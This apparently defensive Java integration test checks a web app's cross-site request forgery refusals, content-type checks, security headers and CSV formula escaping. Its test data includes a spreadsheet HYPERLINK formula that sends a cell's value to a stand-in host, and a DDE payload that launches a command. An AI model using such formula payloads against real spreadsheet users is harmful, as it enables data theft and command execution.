package org.projectdesk.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.Cookie;

/**
 * Another site driving the API with the pages' session cookie (CSRF), and what the API takes and sends.
 * A cross-site form makes the browser send the cookie and whatever body the form has, but it cannot set
 * {@code Origin}, {@code Authorization} or a JSON content type: so every change that rides on the cookie
 * with a foreign {@code Origin} (or {@code Referer}, or neither) is refused 403 and changes nothing, while
 * the pages' own origin and Basic clients keep working. Bodies of a type an endpoint does not document are
 * 415; every API answer carries the security headers; the CSV exports write formula cells as text, and the
 * ledger import reads them back. The session cookies come from signing in with the browser.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class HostileCrossSiteIT {

    private static final String FOREIGN = "https://projectdesk.example.net";
    private static final String FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")";
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).followRedirects(HttpClient.Redirect.NEVER).build();
    /** One session per user, signed in once for the class. */
    private static final Map<String, String> SESSIONS = new HashMap<>();

    @Deployment(testable = false)
    static EnterpriseArchive ear() {
        return ProjectDeskDeployment.ear();
    }

    @RegisterExtension
    static final BrowserSession SESSION = new BrowserSession("failed-cross-site-");

    @ArquillianResource
    URL injectedBase;

    private URI base;
    private ApiClient api;

    @BeforeEach
    void client() {
        base = ProjectDeskDeployment.base(injectedBase);
        api = new ApiClient(base);
    }

    /** scheme://host:port of the server, as a page of it sends in Origin. */
    private String ownOrigin() {
        return base.getScheme() + "://" + base.getHost() + ":" + base.getPort();
    }

    /** The JSESSIONID of {@code user} signed in through the login page. */
    private String session(String user) {
        return SESSIONS.computeIfAbsent(user, u -> {
            Browser browser = SESSION.browser().at(base);
            browser.forgetCookies();
            browser.open("login.xhtml");
            browser.signIn(u, ProjectDeskDeployment.DEMO_PASSWORD);
            Cookie cookie = browser.driver.manage().getCookieNamed("JSESSIONID");
            assertTrue(cookie != null && !browser.pathAndQuery().startsWith("/login.xhtml"), "signed in as " + u);
            assertEquals("Lax", cookie.getSameSite(), "the session cookie is not sent along with another site's forms");
            return cookie.getValue();
        });
    }

    /** A request as a browser sends it: the session cookie, the body as given, and the headers given (Origin…). */
    private HttpResponse<String> send(String method, String path, String session, String contentType, byte[] body,
            Map<String, String> headers) {
        HttpRequest.Builder request = HttpRequest.newBuilder(base.resolve(path)).timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        if (session != null) {
            request.header("Cookie", "JSESSIONID=" + session);
        }
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        if (!headers.containsKey("Accept")) {
            request.header("Accept", "application/json");
        }
        headers.forEach(request::header);
        try {
            return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(method + " " + path, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static Map<String, String> origin(String origin) {
        return Map.of("Origin", origin);
    }

    private static String basic(String user) {
        return "Basic " + Base64.getEncoder().encodeToString((user + ":" + ProjectDeskDeployment.DEMO_PASSWORD)
                .getBytes(StandardCharsets.UTF_8));
    }

    private static JsonObject problem(HttpResponse<String> response, int status) {
        assertEquals(status, response.statusCode(), () -> response.request().method() + " " + response.request().uri() + " -> "
                + response.body());
        assertTrue(response.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"), response.body());
        JsonObject problem = Json.createReader(new java.io.StringReader(response.body())).readObject();
        assertEquals(status, problem.getInt("status"));
        return problem;
    }

    private long unread(String user) {
        return api.as(user, "GET", "api/inbox/unread", null).assertStatus(200).json().getJsonNumber("unread").longValue();
    }

    /** A ledger of one new project: the header and its first matter's line, as the export writes them. */
    private static byte[] ledger(String projectCode, String name) {
        String credit = ServiceFileApiIT.creditCode();
        String quotedName = "\"" + name.replace("\"", "\"\"") + "\"";
        return (String.join(",", ledgerColumns()) + "\r\n"
                + String.join(",", "", projectCode, quotedName, "跨站测试企业", credit, "INDUSTRIAL", "HMKFQ", "HELD", "8000",
                        "officer1", "2026-06-01", "DRC-01", "PLANNED", "", "", "", "", "", "") + "\r\n").getBytes(StandardCharsets.UTF_8);
    }

    private static List<String> ledgerColumns() {
        return List.of("file_no", "project_code", "project_name", "enterprise_name", "credit_code", "type", "town", "land_status",
                "investment", "officer", "intake_on", "category", "matter_status", "accepted_on", "decided_on", "document_no",
                "external_due_on", "simulated_on", "simulated_document_no");
    }

    private int projectsWithCode(String projectCode) {
        return api.as("officer1", "GET", "api/projects?search=" + projectCode, null).assertStatus(200).json()
                .getJsonArray("items").size();
    }

    @Test
    void everyUnsafeFamilyRidingOnTheSessionFromAForeignOriginIsRefusedAndChangesNothing() {
        // The director has something unread: a complaint tells every director.
        String fileNo = PortalApiIT.projectWithNotification(api, PortalApiIT.ENTERPRISE_1);
        api.as("investor1", "POST", "api/complaints", ApiClient.json("fileNo", fileNo, "text", "跨站测试投诉")).assertStatus(201);
        long unread = unread("director");
        assertTrue(unread > 0);
        long item = PortalApiIT.itemId(api, "investor1", fileNo, "用地红线图");
        String code = ServiceFileApiIT.projectCode();
        String uploads = "api/projects/" + fileNo + "/notification/items/" + item + "/uploads";

        record Attempt(String method, String path, String user, String contentType, byte[] body) {
        }
        List<Attempt> attempts = List.of(
                new Attempt("POST", "api/inbox/read", "director", "text/plain", "x=1".getBytes(StandardCharsets.UTF_8)),
                new Attempt("POST", "api/projects/ledger", "officer1", "text/csv", ledger(code, "跨站导入")),
                new Attempt("POST", uploads + "?filename=forged.pdf", "investor1", "text/plain", PortalApiIT.PDF),
                new Attempt("POST", "api/complaints", "investor1", "application/json",
                        ApiClient.json("fileNo", fileNo, "text", "伪造的投诉").getBytes(StandardCharsets.UTF_8)),
                new Attempt("PUT", "api/supervision/settings", "admin", "application/json",
                        "{\"yellowDays\":9,\"yellowPercent\":90,\"leadershipAfterDays\":9}".getBytes(StandardCharsets.UTF_8)),
                new Attempt("DELETE", "api/calendar/years/2027", "admin", null, null));
        Map<String, Map<String, String>> forgeries = new LinkedHashMap<>();
        forgeries.put("a foreign Origin", origin(FOREIGN));
        forgeries.put("the Origin of a sandboxed page", origin("null"));
        forgeries.put("a foreign Referer and no Origin", Map.of("Referer", FOREIGN + "/prize.html"));
        forgeries.put("a look-alike Referer", Map.of("Referer", FOREIGN + "/?" + ownOrigin()));
        forgeries.put("neither", Map.of());
        JsonObject settings = api.as("admin", "GET", "api/supervision/settings", null).assertStatus(200).json();
        int complaints = api.as("investor1", "GET", "api/complaints?size=100", null).assertStatus(200).json().getInt("total");
        List<String> answered = new ArrayList<>();
        for (Attempt attempt : attempts) {
            for (Map.Entry<String, Map<String, String>> forgery : forgeries.entrySet()) {
                HttpResponse<String> refused = send(attempt.method(), attempt.path(), session(attempt.user()), attempt.contentType(),
                        attempt.body(), forgery.getValue());
                answered.add(attempt.method() + " " + attempt.path() + " with " + forgery.getKey() + ": " + refused.statusCode());
                JsonObject problem = problem(refused, 403);
                assertTrue(problem.getString("detail").contains("own pages"), problem.toString());
            }
        }
        assertEquals(attempts.size() * forgeries.size(), answered.stream().filter(a -> a.endsWith(": 403")).count(), answered.toString());

        // Nothing changed.
        assertEquals(unread, unread("director"), "nothing marked read");
        assertEquals(0, projectsWithCode(code), "no project imported");
        assertEquals(0, api.as("investor1", "GET", uploads, null).assertStatus(200).jsonArray().size(), "nothing uploaded");
        assertEquals(complaints, api.as("investor1", "GET", "api/complaints?size=100", null).json().getInt("total"), "no complaint filed");
        assertEquals(settings, api.as("admin", "GET", "api/supervision/settings", null).json(), "the thresholds as they were");
        assertTrue(api.get("api/calendar/years", "admin", ProjectDeskDeployment.DEMO_PASSWORD).jsonArray().stream()
                .anyMatch(y -> y.asJsonObject().getInt("year") == 2027), "the year is still there");
    }

    @Test
    void thePagesOwnOriginAndBasicClientsStillChangeThings() {
        String fileNo = PortalApiIT.projectWithNotification(api, PortalApiIT.ENTERPRISE_1);
        api.as("investor1", "POST", "api/complaints", ApiClient.json("fileNo", fileNo, "text", "同源测试投诉")).assertStatus(201);
        assertTrue(unread("director") > 0);

        // The page's own origin, with the cookie: marked read.
        HttpResponse<String> marked = send("POST", "api/inbox/read", session("director"), null, null, origin(ownOrigin()));
        assertEquals(200, marked.statusCode(), marked.body());
        assertEquals(0, unread("director"));

        // Without Origin a same-origin Referer will do (a browser that leaves Origin out of a same-origin call).
        long item = PortalApiIT.itemId(api, "investor1", fileNo, "用地红线图");
        String uploads = "api/projects/" + fileNo + "/notification/items/" + item + "/uploads";
        HttpResponse<String> uploaded = send("POST", uploads + "?filename=red-line.pdf", session("investor1"), "application/pdf",
                PortalApiIT.PDF, Map.of("Referer", base.resolve("portal/status.xhtml?fileNo=" + fileNo).toString()));
        assertEquals(201, uploaded.statusCode(), uploaded.body());
        assertEquals(1, api.as("investor1", "GET", uploads, null).jsonArray().size());

        // A program with Basic credentials and no session is not a browser's cross-site request, whatever its Origin.
        String code = ServiceFileApiIT.projectCode();
        HttpResponse<String> imported = send("POST", "api/projects/ledger", null, "text/csv; charset=UTF-8", ledger(code, FORMULA),
                Map.of("Authorization", basic("officer1"), "Origin", FOREIGN));
        assertEquals(200, imported.statusCode(), imported.body());
        assertEquals(1, projectsWithCode(code));
    }

    @Test
    void aBodyOfATypeTheEndpointDoesNotDocumentIs415AndChangesNothing() {
        String code = ServiceFileApiIT.projectCode();
        for (String path : List.of("api/projects/ledger/preview", "api/projects/ledger")) {
            for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                    "application/octet-stream")) {
                problem(send("POST", path, null, type, ledger(code, "纯文本导入"), Map.of("Authorization", basic("officer1"))), 415);
            }
        }
        assertEquals(0, projectsWithCode(code));
        // A JSON endpoint takes JSON only: a form's text/plain body that happens to be JSON is not read.
        problem(send("POST", "api/complaints", null, "text/plain", "{\"fileNo\":\"XF-2026-0001\",\"text\":\"x\"}"
                .getBytes(StandardCharsets.UTF_8), Map.of("Authorization", basic("investor1"))), 415);
        problem(send("POST", "api/inbox/read", null, "application/x-www-form-urlencoded", "a=b".getBytes(StandardCharsets.UTF_8),
                Map.of("Authorization", basic("director"))), 415);
    }

    @Test
    void everyApiAnswerCarriesTheSecurityHeaders() {
        List<HttpResponse<String>> answers = List.of(
                send("GET", "api/me", null, null, null, Map.of("Authorization", basic("officer1"))),
                send("GET", "api/me", null, null, null, Map.of()),
                send("GET", "api/projects/XF-1999-9999", null, null, null, Map.of("Authorization", basic("officer1"))),
                send("POST", "api/inbox/read", session("director"), null, null, origin(FOREIGN)),
                send("GET", "api/projects/ledger.csv", null, null, null, Map.of("Authorization", basic("officer1"), "Accept", "text/csv")));
        assertEquals(List.of(200, 401, 404, 403, 200), answers.stream().map(HttpResponse::statusCode).toList());
        for (HttpResponse<String> answer : answers) {
            assertSecurityHeaders(answer);
        }
    }

    @Test
    void theLedgerExportWritesAFormulaAsTextAndTheImportReadsItBack() {
        String code = ServiceFileApiIT.projectCode();
        String credit = ServiceFileApiIT.creditCode();
        api.as("officer1", "POST", "api/projects", ServiceFileApiIT.intake(code, credit, "INDUSTRIAL",
                b -> b.add("name", FORMULA).add("enterprise", ServiceFileApiIT.enterprise("@SUM(1+1)*cmd|' /C calc'!A0", credit))))
                .assertStatus(201);

        HttpResponse<byte[]> download = api.bytes("api/projects/ledger.csv", "officer1");
        assertEquals(200, download.statusCode());
        String exported = new String(download.body(), StandardCharsets.UTF_8);
        List<String> lines = exported.lines().filter(l -> l.contains(code)).toList();
        assertFalse(lines.isEmpty(), "the project is in the ledger");
        for (String line : lines) {
            assertTrue(line.contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点此\"\")\","), line);
            assertTrue(line.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"), line);
            assertFalse(line.matches(".*,[=+@].*"), "no cell starts a formula: " + line);
        }

        // Imported back under another project code and credit code: the names are as they were typed.
        String again = ServiceFileApiIT.projectCode();
        String againCredit = ServiceFileApiIT.creditCode();
        String header = exported.lines().findFirst().orElseThrow();
        String body = header + "\r\n" + String.join("\r\n", lines.stream()
                .map(l -> l.replaceFirst("^XF-\\d{4}-\\d+,", ",").replace(code, again).replace(credit, againCredit))
                .toList()) + "\r\n";
        HttpResponse<String> imported = send("POST", "api/projects/ledger", null, "text/csv; charset=UTF-8",
                body.getBytes(StandardCharsets.UTF_8), Map.of("Authorization", basic("officer1")));
        assertEquals(200, imported.statusCode(), imported.body());
        JsonObject file = api.as("officer1", "GET", "api/projects?search=" + again, null).json().getJsonArray("items").getJsonObject(0);
        assertEquals(FORMULA, file.getString("name"));
        assertEquals("@SUM(1+1)*cmd|' /C calc'!A0", file.getJsonObject("enterprise").getString("name"));
    }

    @Test
    void aLedgerWithAnUnclosedQuoteIsAProblemOnItsLineAndNothingIsImported() {
        String code = ServiceFileApiIT.projectCode();
        String text = String.join(",", ledgerColumns()) + "\r\n"
                + ",\"" + code + ",未闭合的引号,企业," + ServiceFileApiIT.creditCode()
                + ",INDUSTRIAL,HMKFQ,HELD,8000,officer1,2026-06-01,DRC-01,PLANNED,,,,,,\r\n";
        byte[] csv = text.getBytes(StandardCharsets.UTF_8);

        HttpResponse<String> preview = send("POST", "api/projects/ledger/preview", null, "text/csv", csv,
                Map.of("Authorization", basic("officer1")));
        assertEquals(200, preview.statusCode(), preview.body());
        JsonObject checked = Json.createReader(new java.io.StringReader(preview.body())).readObject();
        assertEquals(1, checked.getJsonArray("problems").size(), preview.body());
        JsonObject quote = checked.getJsonArray("problems").getJsonObject(0);
        assertEquals(2, quote.getInt("line"), preview.body());
        assertEquals("import.quote", quote.getString("key"), preview.body());

        JsonObject refused = problem(send("POST", "api/projects/ledger", null, "text/csv", csv,
                Map.of("Authorization", basic("officer1"))), 422);
        assertNotEquals("", refused.getString("detail"));
        assertEquals(0, projectsWithCode(code));
    }

    /**
     * The headers every answer carries: a content security policy that lets no other site frame it, and
     * the older framing, sniffing and referrer headers. Exactly one policy (two would both apply).
     */
    static void assertSecurityHeaders(HttpResponse<?> answer) {
        String what = answer.request().method() + " " + answer.request().uri() + " -> " + answer.statusCode();
        List<String> policies = answer.headers().allValues("Content-Security-Policy");
        assertEquals(1, policies.size(), what + ": " + policies);
        String policy = policies.get(0);
        assertTrue(policy.contains("frame-ancestors 'none'"), what + ": " + policy);
        assertTrue(policy.contains("default-src 'self'") && policy.contains("object-src 'none'"), what + ": " + policy);
        assertFalse(policy.contains("unsafe-eval") || policy.matches(".*script-src[^;]*unsafe-inline.*"), what + ": " + policy);
        assertEquals(List.of("DENY"), answer.headers().allValues("X-Frame-Options"), what);
        assertEquals(List.of("nosniff"), answer.headers().allValues("X-Content-Type-Options"), what);
        assertEquals(List.of("same-origin"), answer.headers().allValues("Referrer-Policy"), what);
    }
}
